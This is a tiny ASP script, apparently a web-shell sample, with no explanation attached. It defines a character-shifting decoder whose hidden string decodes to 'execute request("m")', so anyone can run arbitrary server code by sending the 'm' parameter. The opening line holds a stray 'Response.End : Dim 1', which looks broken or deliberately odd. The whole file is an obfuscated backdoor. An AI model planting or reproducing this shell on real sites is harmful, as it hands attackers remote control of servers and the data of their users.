<% Response.End : Dim 1 %>
<% Function D(c)
Dim i, t
t = ""
For i = 1 To Len(c)
t = t & Chr(Asc(Mid(c, i, 1)) - 1)
Next
D = t
End Function
Execute(D("fyfdvuf!sfrvftu)#n#*")) %>